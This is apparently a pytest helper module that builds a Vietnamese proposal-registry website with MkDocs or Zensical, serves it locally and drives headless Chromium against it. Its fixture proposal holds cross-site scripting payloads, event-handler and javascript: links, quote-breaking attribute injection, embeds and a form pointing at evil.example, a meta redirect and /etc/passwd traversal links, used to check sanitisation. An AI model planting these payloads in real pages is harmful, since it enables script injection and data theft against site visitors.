"""A built site for the tests: the samples plus a hostile proposal, in a git repository, built by the
real `mkdocs build`, and served on localhost; and the headless Chromium that visits it."""

from __future__ import annotations

import functools
import http.server
import os
import re
import shutil
import socketserver
import subprocess
import sys
import tempfile
import threading
import unicodedata
from collections.abc import Callable, Iterator
from datetime import date, timedelta
from http import HTTPStatus
from pathlib import Path

import pytest
from filelock import FileLock

from tests.helpers.git import ENV, GpgKeys, signers_yaml
from tests.helpers.proposals import PROJECT

# Debian's Chromium, which Playwright drives (it downloads no browser of its own), kept off the network.
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
         "--disable-component-update", "--disable-sync"]  # fmt: skip

HOSTILE_ID = "2025-950"
HOSTILE = """---
id: "2025-950"
title: "Thí điểm <script>window.__pwned = 1</script><img src=x onerror=\\"window.__pwned = 2\\"> cổng dịch vụ"
summary: "Tóm tắt có <svg onload=\\"window.__pwned = 3\\"></svg> và [liên kết](javascript:window.__pwned=4) độc hại."
sample: true
unit: so-tu-phap
field: linh-vuc-khac
authors:
  - name: "Trần Văn Thử"
    position: "Chuyên viên"
    unit: so-tu-phap
    contact: "tranvanthu.bimat@example.invalid"
status: approved
confidential: false
submitted: 2025-05-05
decision:
  outcome: approved-pilot
  date: 2025-05-12
  document: "77/QĐ-STP"
  signed_by: {name: "Lê Văn Bình"}
---

## Sự cần thiết; căn cứ và cơ sở lý luận, thực tiễn; dự báo phạm vi tác động, tính khả thi

<script>window.__pwned = 5</script>
<div onclick="window.__pwned = 6" onmouseover="window.__pwned = 7">Di chuột vào đây.</div>
<iframe src="https://evil.example/frame"></iframe>
<style>body { background: url(https://evil.example/bg.png) }</style>

## Thực trạng vấn đề, nội dung đề xuất

[Bấm vào đây](javascript:window.__pwned=8) và <a href="JaVaScRiPt:window.__pwned=9">đây</a>.
![ảnh](https://tracker.example/pixel.png) <img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="d">
[tệp ngoài](../../../../etc/passwd) [trang khác](//evil.example/x) [tuyệt đối](/etc/passwd)

## Định hướng mục tiêu, chỉ tiêu, nhiệm vụ, phương án triển khai và lộ trình thực hiện

<form action="https://evil.example/collect"><input name="q"><button>Gửi</button></form>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">

## Tổ chức thực hiện

<a href="#thuc-trang" onfocus="window.__pwned = 10" autofocus>liên kết nội bộ</a>

## Đề xuất, kiến nghị với cấp có thẩm quyền

<meta http-equiv="refresh" content="0; url=https://evil.example/"> Kết thúc.
"""
UNPUBLISHED = {
    "2025-003": "Cơ chế điều động giáo viên dạy liên trường",  # submitted, referred
    "2025-005": "Miễn giấy phép xây dựng cho nhà ở riêng lẻ",  # rejected
    "2025-006": "Mẫu hóa văn bản trả lời công dân",  # withdrawn
    "2025-007": "Phương án huấn luyện dân quân tự vệ",  # confidential
    "2025-008": "Kho dữ liệu mở về sáng chế",  # draft
    "2025-010": "Tuyên truyền pháp luật về nghĩa vụ quân sự",  # defence, not confidential
    "2026-003": "Bộ hướng dẫn thủ tục hành chính song ngữ",  # submitted, received and appraised
}
PUBLISHED = ["2024-001", "2024-002", "2024-003", "2025-001", "2025-002", "2025-004", "2025-009", "2025-011", "2025-012",
             "2025-013", "2025-014", "2025-015", "2026-001", "2026-002", HOSTILE_ID]  # fmt: skip
CONTACTS = ["lamthingochan.mau@example.invalid", "0299 3 000 111", "thachthimylinh.mau@example.invalid",
            "0299 3 999 888", "tranvanthu.bimat@example.invalid"]  # fmt: skip


# A site below a project's folder (tests/test_search.py, tests/test_site_public.py), as GitHub Pages
# serves https://ORG.github.io/REPO/: the samples plus proposals that carry every Vietnamese letter and
# a hostile title and summary, registry.yml's site_url, the organisation's phone and email, and a second
# commit dated LATER that edits one proposal and one hand-written page.
SITE_URL = "https://to-chuc.github.io/repo/"
FOLDER = "repo"
# The second commit's date, a month after the first (today), and that day as a page shows it.
_LATER_DAY = date.today() + timedelta(days=30)
LATER = f"{_LATER_DAY.isoformat()}T09:00:00+07:00"
LATER_SHOWN = _LATER_DAY.strftime("%d/%m/%Y")
PHONE, EMAIL = "0292 3 820 000", "vanphong@example.invalid"
EDITED_PROPOSAL = "proposals/so-noi-vu/2024-001-so-hoa-ho-so-can-bo-cong-chuc-vien-chuc.md"
EDITED_PAGE = "docs/gui-de-xuat.md"
TONES = ["", "\u0301", "\u0300", "\u0309", "\u0303", "\u0323"]  # ngang, sắc, huyền, hỏi, ngã, nặng
VOWELS = ["a", "ă", "â", "e", "ê", "i", "o", "ô", "ơ", "u", "ư", "y"]
LETTERS = [unicodedata.normalize("NFC", v + t) for v in VOWELS for t in TONES] + ["đ"]
LOWER_ID, UPPER_ID, ATTACK_ID = "2025-961", "2025-962", "2025-963"


def word(letter: str) -> str:
    """A made-up syllable around ``letter``, found in no other text."""
    return f"x{letter}q"


def _proposal(id: str, title: str, summary: str) -> str:
    text = HOSTILE.replace('id: "2025-950"', f'id: "{id}"')
    text = re.sub(r"^title: .*$", lambda _: f"title: {title}", text, count=1, flags=re.M)
    return re.sub(r"^summary: .*$", lambda _: f"summary: {summary}", text, count=1, flags=re.M)


_LOWER = " ".join(word(letter) for letter in LETTERS)
_UPPER = " ".join(word(letter).upper() for letter in LETTERS)
ATTACK_SUMMARY = "Tóm tắt \"><script>window.__pwned=11</script>' onmouseover='window.__pwned=12' &amp; <b>đậm</b> hết."
EXTRA = {
    f"so-tu-phap/{LOWER_ID}-bang-chu-cai.md": _proposal(LOWER_ID, '"Bảng chữ cái thường"', f'"Các chữ: {_LOWER}."'),
    f"so-tu-phap/{UPPER_ID}-bang-chu-cai-hoa.md": _proposal(UPPER_ID, '"Bảng chữ cái hoa"', f'"Các chữ: {_UPPER}."'),
    f"so-tu-phap/{ATTACK_ID}-tan-cong-the-meta.md": _proposal(
        ATTACK_ID, "'Tấn công \"thẻ\" <meta> & thuộc tính'", "'" + ATTACK_SUMMARY.replace("'", "''") + "'"
    ),
}


def below_folder(root: Path, engine: str) -> Path:
    """The site described above SITE_URL, built by ``engine`` in ``root``; its folder."""
    prepare(root, EXTRA)
    config = root / "registry.yml"
    website = '  website: "https://cantho.gov.vn"\n'
    source = config.read_text(encoding="utf-8")
    assert website in source
    source = source.replace(website, f'{website}  phone: "{PHONE}"\n  email: "{EMAIL}"\n')
    config.write_text(source + f"\nsite_url: {SITE_URL.rstrip('/')}\n", encoding="utf-8")
    for path in (EDITED_PROPOSAL, EDITED_PAGE):
        with (root / path).open("a", encoding="utf-8") as file:
            file.write("\nMột đoạn bổ sung.\n")
    dated = {**ENV, "GIT_AUTHOR_DATE": LATER, "GIT_COMMITTER_DATE": LATER}
    for command in (["add", "-A"], ["commit", "-q", "-m", "Bổ sung"]):
        subprocess.run(["git", *command], cwd=root, env=dated, check=True)
    validated = validate(root)
    assert validated.returncode == 0, validated.stdout + validated.stderr
    built = engine_build(root, engine)
    assert built.returncode == 0, built.stderr
    return root / "site"


def prepare(target: Path, proposals: dict[str, str] | None = None) -> None:
    """Copy the project's registry and site sources to ``target``, with the hostile proposal and
    ``proposals`` (text by path under proposals/), and commit them."""
    for name in ("registry.yml", "mkdocs.yml"):
        shutil.copy(PROJECT / name, target / name)
    for name in ("schema", "proposals", "docs", "overrides"):
        shutil.copytree(PROJECT / name, target / name)
    (target / "scripts" / "registry").mkdir(parents=True)
    shutil.copy(PROJECT / "scripts" / "registry" / "mkdocs_hook.py", target / "scripts" / "registry")
    written = {f"so-tu-phap/{HOSTILE_ID}-thi-diem-cong-dich-vu.md": HOSTILE, **(proposals or {})}
    for path, content in written.items():
        (target / "proposals" / path).write_text(content, encoding="utf-8")
    # The forge's signature proves the pull request that the timelines show; registry.yml names its key.
    keys = GpgKeys()
    forge = keys.make("forge")
    config = target / "registry.yml"
    signers = signers_yaml({"forge": ("gpg", keys.public("forge"))})
    config.write_text(
        config.read_text(encoding="utf-8").replace("pull_request_signers:\n  - github-web-flow\n", signers)
    )
    signed = ["-c", f"user.signingkey={forge}", "commit", "-q", "-S", "-m", "Sổ đăng ký (#1)"]
    for command in (["init", "-q", "-b", "main"], ["add", "-A"], signed):
        subprocess.run(["git", *command], cwd=target, env=keys.env, check=True)
    keys.close()


def mkdocs_build(target: Path, timeout: float | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--strict"], cwd=target, env={**ENV, "NO_MKDOCS_2_WARNING": "1"},
        capture_output=True, text=True, check=False, timeout=timeout,
    )  # fmt: skip


ENGINES = ("mkdocs", "zensical")


def zensical_build(target: Path, timeout: float | None = None) -> subprocess.CompletedProcess[str]:
    """What `make site ENGINE=zensical` runs after validating: prepare, the engine, finish; the first step
    that fails, or the last, with the output of every step run."""
    steps = [
        [sys.executable, "-m", "registry", "site", "prepare"],
        [sys.executable, "-m", "zensical", "build", "--config-file", "build/mkdocs.yml"],
        [sys.executable, "-m", "registry", "site", "finish"],
    ]
    stdout = stderr = ""
    for step in steps:
        result = subprocess.run(step, cwd=target, env=ENV, capture_output=True, text=True, check=False, timeout=timeout)
        stdout, stderr = stdout + result.stdout, stderr + result.stderr
        if result.returncode != 0:
            break
    return subprocess.CompletedProcess(result.args, result.returncode, stdout, stderr)


def engine_build(target: Path, engine: str, timeout: float | None = None) -> subprocess.CompletedProcess[str]:
    """The site of ``target`` built by ``engine`` (one of ENGINES) into its folder site/."""
    return zensical_build(target, timeout) if engine == "zensical" else mkdocs_build(target, timeout)


def validate(target: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "registry", "validate"], cwd=target, env=ENV, capture_output=True, text=True, check=False
    )


def build(
    target: Path,
    proposals: dict[str, str] | None = None,
    timeout: float | None = None,
    checked: bool = True,
    engine: str = "mkdocs",
) -> Path:
    """Prepare ``target`` (see prepare), check it with `registry validate` (unless not ``checked``: a
    proposal approved before a rule existed is published all the same), build it with ``engine``; the
    site folder."""
    prepare(target, proposals)
    if checked:
        validated = validate(target)
        assert validated.returncode == 0, validated.stdout + validated.stderr
    result = engine_build(target, engine, timeout)
    assert result.returncode == 0, result.stderr
    (target / "build.log").write_text(result.stderr, encoding="utf-8")
    return target / "site"


def once(factory: pytest.TempPathFactory, name: str, make: Callable[[Path], Path]) -> Path:
    """What ``make`` builds in an empty folder, built once per test run: under pytest-xdist the workers
    share it (a file lock in the run's temporary folder, as pytest-xdist documents), the first to ask
    builds it, the others wait and reuse it. ``make`` must not change it afterwards, nor the tests."""
    root = factory.getbasetemp()  # the run's folder (a new one each run)
    if os.environ.get("PYTEST_XDIST_WORKER"):
        root = root.parent  # each worker's folder is inside the run's, which they share
    done = root / f"{name}.built"
    with FileLock(str(root / f"{name}.lock")):
        if done.is_file():
            return Path(done.read_text(encoding="utf-8"))
        target = root / name
        shutil.rmtree(target, ignore_errors=True)  # a build that failed halfway in another worker
        target.mkdir()
        built = make(target)
        done.write_text(str(built), encoding="utf-8")
        return built


def side_by_side(
    factory: pytest.TempPathFactory, name: str, kinds: tuple[str, ...], kind: str, make: Callable[[Path, str], Path]
) -> Path:
    """``make(folder, kind)``, one of several ``kinds`` a module needs, once per test run (see once). The
    workers start from different kinds, so that two builds run side by side rather than one worker
    waiting for the other's. Without workers, only ``kind`` is built."""
    worker = os.environ.get("PYTEST_XDIST_WORKER", "").removeprefix("gw")
    first = int(worker) % len(kinds) if worker.isdigit() else kinds.index(kind)
    order = kinds[first:] + kinds[:first]
    for each in order[: order.index(kind) + 1]:
        built = once(factory, f"{name}-{each}", lambda target, each=each: make(target, each))  # type: ignore[misc]
    return built


def per_engine(factory: pytest.TempPathFactory, name: str, engine: str, make: Callable[[Path, str], Path]) -> Path:
    """``make(folder, engine)`` once per test run, the workers starting from different engines (see
    side_by_side)."""
    return side_by_side(factory, name, ENGINES, engine, make)


def sample_site(factory: pytest.TempPathFactory, engine: str) -> Path:
    """The samples plus the hostile proposal built by ``engine``, once per test run."""
    return per_engine(factory, "sample", engine, lambda target, engine: build(target, engine=engine))


class _Pages(http.server.SimpleHTTPRequestHandler):
    """Serves a built site as GitHub Pages does: quietly, and a missing path gets the site's 404.html
    with status 404 (``site_404``, set per server)."""

    site_404: Path | None = None

    def log_message(self, format: str, *args: object) -> None:
        pass

    def send_error(self, code: int, message: str | None = None, explain: str | None = None) -> None:
        page = self.site_404
        if code != HTTPStatus.NOT_FOUND or page is None or not page.is_file():
            super().send_error(code, message, explain)
            return
        body = page.read_bytes()
        self.send_response(HTTPStatus.NOT_FOUND)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)


def serve(site: Path, below: str = "") -> Iterator[str]:
    """The site served on a free local port, at its root or ``below`` a folder (as GitHub Pages serves a
    project under its name: the address then ends with ``/<below>/``)."""
    root = site
    if below:
        root = Path(tempfile.mkdtemp(prefix="registry-pages-"))
        (root / below).symlink_to(site.resolve(), target_is_directory=True)
    handler = type("_SitePages", (_Pages,), {"site_404": site / "404.html"})
    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), functools.partial(handler, directory=str(root))) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.server_address[1]}" + (f"/{below}/" if below else "")
        server.shutdown()
    if below:
        shutil.rmtree(root, ignore_errors=True)
